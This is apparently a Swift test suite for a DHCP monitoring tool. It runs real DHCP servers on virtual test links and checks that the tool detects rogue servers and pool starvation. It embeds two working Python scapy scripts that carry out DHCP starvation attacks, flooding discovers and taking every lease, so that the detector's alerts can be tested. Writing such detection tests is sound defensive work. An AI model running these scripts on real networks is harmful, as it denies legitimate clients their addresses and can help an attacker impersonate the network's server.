import Logging
import Model
import Reactor
import Synchronization
import TestPrograms
import Testing
import Watching
import Wire

@testable import Watchers

/// A live watcher whose reports a test can wait for.
private final class LiveDHCP: ReportReceiver {
    private let reports = Mutex<[Report]>([])
    private let (arrivals, arrival) = AsyncStream.makeStream(of: Void.self, bufferingPolicy: .bufferingNewest(1))

    func submit(_ batch: ReportBatch, whenReady: @escaping @Sendable () -> Void) -> Pressure {
        reports.withLock { $0 += batch.reports }
        arrival.yield()
        return .none
    }

    /// The observations so far.
    var observations: [Observation] {
        reports.withLock { $0 }.compactMap { if case .observation(let one) = $0.content { one } else { nil } }
    }

    /// Whether a listed server has answered questions of ours, so far as the watcher asked to remember it.
    func isAnswered(_ name: String) -> Bool {
        reports.withLock { $0 }.contains {
            if case .memory(DHCPWatcher.answeredKey, let value) = $0.content {
                value?.contains("\(name)\tprobe") ?? false
            } else {
                false
            }
        }
    }

    /// Returns once the condition holds; a test's time limit ends the wait for what never does.
    func wait(until condition: (LiveDHCP) -> Bool) async {
        if condition(self) { return }
        for await _ in arrivals where condition(self) { return }
    }

    /// Returns the first observation of a rule about a device.
    func firing(_ rule: Rule, _ device: String) async -> Observation? {
        func find() -> Observation? {
            observations.first { $0.rule == rule.name && $0.subject.device == device && $0.state == .firing }
        }
        await wait { _ in find() != nil }
        return find()
    }

    /// Starts a watcher that tells this receiver.
    func start(_ configuration: DHCPConfiguration) async throws -> WatcherHost {
        try await start(DHCPPlan(configuration: configuration))
    }

    /// Starts a watcher of that plan.
    func start(_ plan: any WatcherPlan) async throws -> WatcherHost {
        let host = try WatcherHost(
            name: .dhcp, plan: plan, executor: QueueExecutor(label: "dhcp"),
            decoder: { nil }, receiver: self, facts: FactBoard(), inherited: [],
            log: Logger(label: "test") { _ in SwiftLogNoOpLogHandler() })
        try await host.start(openAlerts: [])
        return host
    }
}

@Suite("Real DHCP servers on real links", .timeLimit(.minutes(5)), .serialized)
struct LiveDHCPTests {
    private func configuration(_ bridge: String, _ address: IPAddress, _ mac: String) -> DHCPConfiguration {
        var configuration = DHCPConfiguration(interfaces: [bridge])
        var server = ListedDHCPServer(addresses: [address])
        server.macs = [MACAddress(mac)].compactMap { $0 }
        configuration.servers = [server]
        // Faster than a configuration may say, so that the test is short.
        configuration.probeInterval = .seconds(1)
        configuration.vendorsPath = nil
        return configuration
    }

    @Test(
        "dnsmasq as the listed server raises nothing; dhcpd, Kea and a dnsmasq for DHCPv6 are found by asking, one alert each",
        .enabled(if: DHCPLink.isPossible, "\(DHCPLink.reason)"))
    func rogues() async throws {
        let link = try #require(DHCPLink("toca"))
        try #require(link.add("a", mac: "52:54:00:77:00:01", addresses: "10.77.0.1/24"))
        try #require(link.add("b", mac: "52:54:00:77:00:66", addresses: "10.77.0.66/24"))
        try #require(link.add("c", mac: "52:54:00:77:00:67", addresses: "10.77.0.67/24"))
        try #require(link.add("d", mac: "52:54:00:77:00:68", addresses: "fe80::68/64", "2001:db8:77::1/64"))
        var configuration = configuration(link.bridge, .v4(0x0a4d_0001), "52:54:00:77:00:01")
        configuration.servers[0].expected.routers = [.v4(0x0a4d_0001)]
        // Who reads a recording does not know our own client, which asks far more often here than it ever may.
        configuration.starvation = nil
        try link.dnsmasq("a", "--dhcp-range=10.77.0.100,10.77.0.109,1h")
        let recorder = try await CaptureRecorder(link.bridge, filter: DHCPWatcher.filter)
        let live = LiveDHCP()
        let host = try await live.start(configuration)
        await live.wait { $0.isAnswered("10.77.0.1") }
        #expect(live.observations.map(\.summary) == [])

        // It ignores clients that it does not know, and yet its refusal of a wrong address gives it away.
        let dhcpd = try link.dhcpd(
            "b",
            """
            authoritative; deny unknown-clients;
            subnet 10.77.0.0 netmask 255.255.255.0 { range 10.77.0.200 10.77.0.209; option routers 10.77.0.66; }

            """)
        let refused = try #require(await live.firing(DHCPRules.rogueServer, "10.77.0.66"))
        #expect(
            refused.summary
                == "10.77.0.66, MAC 52:54:00:77:00:66 (QEMU), refuses DHCP clients on \(link.bridge) and is "
                + "not listed" || refused.summary.contains("refuses DHCP clients on \(link.bridge) and is not listed: ")
        )
        dhcpd.end()

        try link.kea(
            "c",
            subnet: """
                { "id": 1, "subnet": "10.77.0.0/24", "pools": [{ "pool": "10.77.0.210 - 10.77.0.219" }],
                  "option-data": [{ "name": "routers", "data": "10.77.0.67" },
                                  { "name": "domain-name-servers", "data": "10.77.0.67" }] }
                """)
        let offered = try #require(await live.firing(DHCPRules.rogueServer, "10.77.0.67"))
        #expect(offered.evidence.json.contains("\"mac\":\"52:54:00:77:00:67\""))
        await live.wait { $0.observations.contains { $0.summary.contains("router 10.77.0.67, DNS 10.77.0.67") } }
        let servers = try #require(await host.answer(.servers))
        #expect(servers.contains("\"address\":\"10.77.0.67\"") && servers.contains("\"seen_by\":\"probe ("))

        try link.dnsmasq(
            "d", "--dhcp-range=2001:db8:77::100,2001:db8:77::1ff,64,1h",
            "--dhcp-option=option6:dns-server,[2001:db8:77::53]")
        let sixth = try #require(await live.firing(DHCPRules.rogueServer6, "fe80::68"))
        #expect(sixth.summary.contains("DNS 2001:db8:77::53") && sixth.severity == .critical, "\(sixth.summary)")
        #expect(live.observations.allSatisfy { $0.rule.hasSuffix("rogue-server") })
        await host.stop()
        await host.close()

        // The recording tells the same; with another one of the servers in the list, that one is well and the rest is not.
        let recording = try link.file("rogues.pcap")
        #expect(try await recorder.end(into: recording) > 20)
        let replayed = try CaptureRecorder.replay(recording, [(.dhcp, DHCPPlan(configuration: configuration))])
        #expect(LiveLikeness.set(replayed) == LiveLikeness.set(live.observations))
        for number in [0x42, 0x43] as [UInt32] {
            configuration.servers[0] = ListedDHCPServer(addresses: [.v4(0x0a4d_0000 + number)])
            configuration.servers[0].macs = [MACAddress(value: 0x5254_0077_0024 + UInt64(number))]
            let others = try CaptureRecorder.replay(recording, [(.dhcp, DHCPPlan(configuration: configuration))])
            let rogues = Set(others.filter { $0.rule == DHCPRules.rogueServer.name }.map(\.subject.device))
            let all: Set = ["10.77.0.1", "10.77.0.66", "10.77.0.67"]
            #expect(rogues == all.subtracting(["10.77.0.\(number)"]))
        }
    }

    @Test(
        "A real client behind a real relay agent gets its address in peace; the same server unlisted is told by option 54",
        .enabled(if: DHCPLink.isPossible, "\(DHCPLink.reason)"))
    func relay() async throws {
        let link = try #require(DHCPLink("tocb"))
        let far = "\(link.bridge)f"
        try #require(link.addBridge(far))
        try #require(link.add("r", mac: "52:54:00:77:01:fe", addresses: "10.77.1.254/24"))
        try #require(link.add("r", interface: "eth1", on: far, mac: "52:54:00:77:02:fe", addresses: "10.77.2.254/24"))
        try #require(link.add("s", on: far, mac: "52:54:00:77:02:01", addresses: "10.77.2.1/24"))
        try #require(link.add("k", mac: "52:54:00:77:01:aa"))
        try #require(link.route("s", "10.77.1.0/24", via: "10.77.2.254"))
        try link.dhcpd(
            "s",
            """
            subnet 10.77.2.0 netmask 255.255.255.0 { }
            subnet 10.77.1.0 netmask 255.255.255.0 { range 10.77.1.100 10.77.1.109; option routers 10.77.1.254; }

            """)
        try link.run("r", "dhcrelay", ["-4", "-d", "--no-pid", "-id", "eth0", "-iu", "eth1", "10.77.2.1"])
        var configuration = configuration(link.bridge, .v4(0x0a4d_0201), "52:54:00:77:02:01")
        configuration.starvation = nil
        let recorder = try await CaptureRecorder(link.bridge, filter: DHCPWatcher.filter)
        let live = LiveDHCP()
        let host = try await live.start(configuration)
        await live.wait { $0.isAnswered("10.77.2.1") }
        let client = try link.dhclient("k")
        // A client that has its address says so to its script and stays; the server that it took it from is heard.
        var told = ""
        while !told.contains("\"offered_address\":\"10.77.1.10") {
            told = try #require(await host.answer(.servers))
            try await Task.sleep(for: .milliseconds(20))
        }
        #expect(told.contains("\"seen_by\":\"relay\"") || told.contains("\"seen_by\":\"probe ("), "\(told)")
        #expect(live.observations.map(\.summary) == [])
        let listed = DHCPPlan(configuration: configuration)
        configuration.servers[0].addresses = [.v4(0x0a4d_0209)]
        await host.reconfigure(DHCPPlan(configuration: configuration))
        let rogue = try #require(await live.firing(DHCPRules.rogueServer, "10.77.2.1"))
        #expect(rogue.summary.contains("through the relay agent 10.77.1.254"), "\(rogue.summary)")
        client.end()
        await host.stop()
        await host.close()
        let recording = try link.file("relay.pcap")
        #expect(try await recorder.end(into: recording) > 8)
        #expect(try CaptureRecorder.replay(recording, [(.dhcp, listed)]).map(\.summary) == [])
        let replayed = try CaptureRecorder.replay(recording, [(.dhcp, DHCPPlan(configuration: configuration))])
        #expect(LiveLikeness.set(replayed) == LiveLikeness.set(live.observations))
    }

    @Test(
        "A look without a daemon shows who answers, and with a list who should not",
        .enabled(if: DHCPLink.isPossible, "\(DHCPLink.reason)"))
    func look() async throws {
        let link = try #require(DHCPLink("tocd"))
        try #require(link.add("a", mac: "52:54:00:77:00:01", addresses: "10.77.0.1/24"))
        try link.dnsmasq("a", "--dhcp-range=10.77.0.100,10.77.0.109,1h")
        for isListed in [false, true] {
            let live = LiveDHCP()
            let list = configuration(link.bridge, .v4(0x0a4d_0009), "52:54:00:77:00:09")
            let plan = DHCPProbePlan(
                interface: link.bridge, list: isListed ? DHCPPlan(configuration: list).makeWatcher() : nil)
            let host = try await live.start(plan)
            var servers = ""
            while !servers.contains("\"address\":\"10.77.0.1\"") {
                try await Task.sleep(for: .milliseconds(20))
                servers = try #require(await host.answer(.servers))
            }
            #expect(servers.contains("\"state\":\"\(isListed ? "rogue" : "seen")\""), "\(servers)")
            if isListed { #expect(await live.firing(DHCPRules.rogueServer, "10.77.0.1") != nil) }
            #expect(live.observations.count == (isListed ? 1 : 0))
            await host.stop()
            await host.close()
        }
    }

    @Test(
        "An attack by scapy that drains the pool is told while it runs",
        .enabled(if: DHCPLink.isPossible, "\(DHCPLink.reason)"))
    func starvation() async throws {
        let link = try #require(DHCPLink("tocc"))
        try #require(link.add("a", mac: "52:54:00:77:00:01", addresses: "10.77.0.1/24"))
        try #require(link.add("x", mac: "52:54:00:77:00:66"))
        try link.dnsmasq("a", "--dhcp-range=10.77.0.100,10.77.0.109,1h")
        let recorder = try await CaptureRecorder(link.bridge, filter: DHCPWatcher.filter)
        let live = LiveDHCP()
        let configuration = configuration(link.bridge, .v4(0x0a4d_0001), "52:54:00:77:00:01")
        let host = try await live.start(configuration)
        await live.wait { $0.isAnswered("10.77.0.1") }
        let script = try link.file(
            "attack.py",
            """
            from random import getrandbits, randbytes
            from time import sleep
            from scapy.all import BOOTP, DHCP, IP, UDP, Ether, conf
            socket = conf.L2socket(iface="eth0")
            while True:
                client = bytes([0x02]) + randbytes(5)
                socket.send(Ether(src="52:54:00:77:00:66", dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255")
                    / UDP(sport=68, dport=67) / BOOTP(chaddr=client, xid=getrandbits(32), flags=0x8000)
                    / DHCP(options=[("message-type", "discover"), "end"]))
                sleep(0.005)

            """)
        let attack = try link.run("x", "/usr/bin/python3", [script])
        let alert = try #require(await live.firing(DHCPRules.starvation, "link"))
        #expect(alert.severity == .critical && alert.summary.contains("were sent by another host than the client"))
        #expect(alert.summary.hasSuffix("; most from MAC 52:54:00:77:00:66 (QEMU)"), "\(alert.summary)")
        attack.end()
        #expect(!live.observations.contains { $0.rule == DHCPRules.rogueServer.name })
        await host.stop()
        await host.close()
        let recording = try link.file("attack.pcap")
        #expect(try await recorder.end(into: recording) > 75)
        let replayed = try CaptureRecorder.replay(recording, [(.dhcp, DHCPPlan(configuration: configuration))])
        #expect(LiveLikeness.set(replayed) == LiveLikeness.set(live.observations))
    }

    @Test(
        "Kea as the listed server raises nothing, also while a client takes an address; a dnsmasq beside it is the rogue",
        .enabled(if: DHCPLink.isPossible, "\(DHCPLink.reason)"))
    func listedKea() async throws {
        let link = try #require(DHCPLink("toce"))
        try #require(link.add("a", mac: "52:54:00:77:00:01", addresses: "10.77.0.1/24"))
        try #require(link.add("b", mac: "52:54:00:77:00:66", addresses: "10.77.0.66/24"))
        try #require(link.add("k", mac: "52:54:00:77:00:aa"))
        var configuration = configuration(link.bridge, .v4(0x0a4d_0001), "52:54:00:77:00:01")
        configuration.servers[0].expected.routers = [.v4(0x0a4d_0001)]
        configuration.servers[0].expected.dns = [.v4(0x0a4d_0035)]
        try link.kea(
            "a",
            subnet: """
                { "id": 1, "subnet": "10.77.0.0/24", "pools": [{ "pool": "10.77.0.210 - 10.77.0.219" }],
                  "option-data": [{ "name": "routers", "data": "10.77.0.1" },
                                  { "name": "domain-name-servers", "data": "10.77.0.53" }] }
                """)
        let live = LiveDHCP()
        let host = try await live.start(configuration)
        await live.wait { $0.isAnswered("10.77.0.1") }
        let client = try link.dhclient("k")
        var told = ""
        while !told.contains("\"offered_address\":\"10.77.0.21") {
            told = try #require(await host.answer(.servers))
            try await Task.sleep(for: .milliseconds(20))
        }
        #expect(told.contains("\"listed\":true"), "\(told)")
        #expect(live.observations.map(\.summary) == [])
        client.end()
        try link.dnsmasq("b", "--dhcp-range=10.77.0.100,10.77.0.109,1h")
        let rogue = try #require(await live.firing(DHCPRules.rogueServer, "10.77.0.66"))
        #expect(rogue.evidence.json.contains("\"mac\":\"52:54:00:77:00:66\""))
        #expect(live.observations.allSatisfy { $0.subject.device != "10.77.0.1" })
        await host.stop()
        await host.close()
    }

    @Test(
        "A pool of dnsmasq's or dhcpd's that scapy drains lease by lease: the attack and that the pool is empty are told",
        .enabled(if: DHCPLink.isPossible, "\(DHCPLink.reason)"), arguments: [false, true])
    func drain(isDhcpd: Bool) async throws {
        let link = try #require(DHCPLink(isDhcpd ? "tocf" : "tocg"))
        try #require(link.add("a", mac: "52:54:00:77:00:01", addresses: "10.77.0.1/24"))
        try #require(link.add("x", mac: "52:54:00:77:00:66"))
        if isDhcpd {
            try link.dhcpd(
                "a",
                """
                authoritative; ping-check false;
                subnet 10.77.0.0 netmask 255.255.255.0 { range 10.77.0.100 10.77.0.179; option routers 10.77.0.1; }

                """)
        } else {
            try link.dnsmasq("a", "--dhcp-range=10.77.0.100,10.77.0.179,1h")
        }
        let live = LiveDHCP()
        let host = try await live.start(configuration(link.bridge, .v4(0x0a4d_0001), "52:54:00:77:00:01"))
        await live.wait { $0.isAnswered("10.77.0.1") }
        let script = try link.file("drain.py", Self.drain)
        let attack = try link.run("x", "/usr/bin/python3", [script])
        let alert = try #require(await live.firing(DHCPRules.starvation, "link"))
        #expect(alert.summary.contains("have made-up addresses that all begin with de:ad"), "\(alert.summary)")
        #expect(alert.evidence.json.contains("asks for 1 121 3 6 15 108 114 119 252"), "\(alert.evidence.json)")
        let empty = try #require(await live.firing(DHCPRules.poolExhausted, "10.77.0.1"))
        // dnsmasq gives away what it offered us; dhcpd holds it for us, and lets clients ask in vain.
        #expect(
            empty.summary.contains(
                isDhcpd ? "offers clients no address any more" : "offers no address any more although it answers other"),
            "\(empty.summary)")
        attack.end()
        #expect(!live.observations.contains { $0.rule == DHCPRules.rogueServer.name })
        await host.stop()
        await host.close()
    }

    /// Takes leases for ever, each for a client of its own that does all that a phone does.
    private static let drain = """
        from random import getrandbits, randbytes
        from time import sleep
        from scapy.all import AsyncSniffer, BOOTP, DHCP, IP, UDP, Ether, conf
        wire = conf.L2socket(iface="eth0")
        wants = ("param_req_list", [1, 121, 3, 6, 15, 108, 114, 119, 252])
        def send(client, xid, options):
            wire.send(Ether(src=":".join("%02x" % octet for octet in client), dst="ff:ff:ff:ff:ff:ff")
                / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67)
                / BOOTP(chaddr=client, xid=xid, flags=0x8000) / DHCP(options=options + [wants, "end"]))
        def take(frame):
            if DHCP not in frame or frame[BOOTP].chaddr[:2] != bytes([0xde, 0xad]): return
            said = dict(option[:2] for option in frame[DHCP].options if isinstance(option, tuple))
            if said.get("message-type") == 2:
                send(frame[BOOTP].chaddr[:6], frame[BOOTP].xid, [("message-type", "request"),
                    ("server_id", said["server_id"]), ("requested_addr", frame[BOOTP].yiaddr)])
        sniffer = AsyncSniffer(iface="eth0", prn=take, store=False)
        sniffer.start()
        while True:
            send(bytes([0xde, 0xad]) + randbytes(4), getrandbits(32), [("message-type", "discover")])
            sleep(0.1)

        """
}
